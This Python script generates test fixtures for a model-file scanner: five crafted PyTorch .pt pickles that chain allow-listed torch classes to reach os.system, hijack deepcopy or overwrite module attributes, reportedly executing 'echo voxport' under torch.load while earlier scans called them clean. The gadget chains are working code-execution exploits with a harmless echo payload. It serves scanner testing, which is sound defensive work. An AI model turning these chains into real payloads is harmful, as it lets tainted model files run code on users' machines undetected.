#!/usr/bin/env python3
"""Writes attacks on `inspect --scan` that use names of saved models alone, for tests/data/scan/attacks.

    tools/make_scan_attacks.py tests/data/scan/attacks

An earlier version of the scan called each of them clean; `python3 -c 'import torch; torch.load(FILE)'` with PyTorch 1.13
prints "voxport" for allowed_names.pt. Needs nothing but the standard library.
"""

import os
import struct
import sys
import zipfile


# Opcodes that put a value on the stack.

def text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def name(module, attribute):
    return f"c{module}\n{attribute}\n".encode()


def tuple_of(*items):
    return b"(" + b"".join(items) + b"t"


def list_of(*items):
    return b"](" + b"".join(items) + b"e"


def dict_of(items):
    return b"}(" + b"".join(text(key) + value for key, value in items.items()) + b"u"


def reduced(function, *arguments):
    return function + tuple_of(*arguments) + b"R"


NONE = b"N"
EMPTY_DICT = b"}"
FROM_TYPE = name("torch._tensor", "_rebuild_from_type_v2")
TENSOR = name("torch", "Tensor")
PARAMETER_DICT = name("torch.nn.modules.container", "ParameterDict")
SEQUENTIAL = name("torch.nn.modules.container", "Sequential")
IDENTITY = name("torch.nn.modules.linear", "Identity")
LAMBDA_LR = name("torch.optim.lr_scheduler", "LambdaLR")
FUNCTIONAL = name("torch.nn.modules.linear", "F")
MODULE_ATTRIBUTES = ("_parameters", "_buffers", "_modules", "_forward_hooks", "_forward_pre_hooks", "_backward_hooks",
                     "_state_dict_hooks", "_load_state_dict_pre_hooks", "_load_state_dict_post_hooks",
                     "_non_persistent_buffers_set", "_is_full_backward_hook")


class Program:
    """A pickle that computes: each step leaves its value in the memo, where later steps find it."""

    def __init__(self):
        self.steps = []

    def step(self, code):
        index = len(self.steps)
        self.steps.append(code + b"r" + struct.pack("<I", index) + b"0")
        return b"j" + struct.pack("<I", index)

    def pickle(self):
        return b"\x80\x02" + b"".join(self.steps) + b"N."

    def module(self, cls, **attributes):
        state = dict.fromkeys(MODULE_ATTRIBUTES, EMPTY_DICT)
        state.update(attributes)
        return self.step(cls + b")\x81" + dict_of(state) + b"b")

    def call(self, function, arguments):
        """function(*arguments): what _rebuild_from_type_v2 does first, and for a plain tensor at last."""
        return self.step(reduced(FROM_TYPE, function, TENSOR, arguments, NONE))

    def parameter_dict(self, **attributes):
        return self.module(PARAMETER_DICT, _keys=dict_of({"__getattribute__": NONE}), **attributes)

    def attribute(self, parameter_dict, attribute):
        """getattr(parameter_dict, attribute): Sequential calls what parameter_dict.values() looks up."""
        sequential = self.module(SEQUENTIAL, _modules=parameter_dict)
        return self.call(sequential, tuple_of(text(attribute)))

    def item(self, dictionary, key):
        """dictionary[key]: Module.__getattr__ looks in _parameters."""
        holder = self.parameter_dict(_parameters=dictionary)
        return self.call(self.attribute(holder, "__getattr__"), tuple_of(text(key)))

    def variables(self, module):
        """vars(module): LambdaLR.state_dict() copies the __dict__ of each of its lambdas."""
        holder = self.parameter_dict(lr_lambdas=list_of(module), optimizer=NONE)
        get = self.attribute(holder, "__getattribute__")
        self.call(self.attribute(holder, "__setattr__"), tuple_of(text("__class__"), LAMBDA_LR))
        state = self.call(self.call(get, tuple_of(text("state_dict"))), b")")
        return self.call(self.module(IDENTITY), self.item(state, "lr_lambdas"))


def allowed_names():
    """os.system, found through the attributes of a module that has a capital letter for a name."""
    program = Program()
    torch = program.item(program.variables(FUNCTIONAL), "torch")
    os_module = program.item(program.variables(torch), "os")
    system = program.item(program.variables(os_module), "system")
    program.call(system, tuple_of(text("echo voxport")))
    return program.pickle()


def averaged_model():
    """deepcopy calls __deepcopy__, here a class of the file's choice."""
    program = Program()
    model = program.module(IDENTITY, __deepcopy__=name("builtins", "list"))
    program.step(reduced(name("torch.optim.swa_utils", "AveragedModel"), model))
    return program.pickle()


def build_of_module():
    """BUILD on a module: restore_type_tag returns it, and its attributes are overwritten."""
    program = Program()
    functional = program.step(reduced(name("torch.jit._pickle", "restore_type_tag"), FUNCTIONAL, text("t")))
    program.step(functional + dict_of({"relu": name("builtins", "list")}) + b"b")
    return program.pickle()


def parameter_dict():
    """ParameterDict(other) reads the attributes of the other by names that are data."""
    program = Program()
    other = program.module(PARAMETER_DICT, _keys=dict_of({"__class__": NONE, "register_forward_hook": NONE}))
    program.step(reduced(PARAMETER_DICT, other))
    return program.pickle()


def forward_hides_method():
    """A module that calls another when it is called, through _rebuild_from_type_v2 at once."""
    program = Program()
    called = program.module(IDENTITY, forward=name("builtins", "list"))
    program.call(called, tuple_of(text("voxport")))
    return program.pickle()


ATTACKS = [allowed_names, averaged_model, build_of_module, parameter_dict, forward_hides_method]


def main():
    folder = sys.argv[1]
    os.makedirs(folder, exist_ok=True)
    for attack in ATTACKS:
        with zipfile.ZipFile(os.path.join(folder, attack.__name__ + ".pt"), "w") as archive:
            for entry, contents in (("archive/data.pkl", attack()), ("archive/version", b"3\n")):
                archive.writestr(zipfile.ZipInfo(entry), contents)


if __name__ == "__main__":
    main()
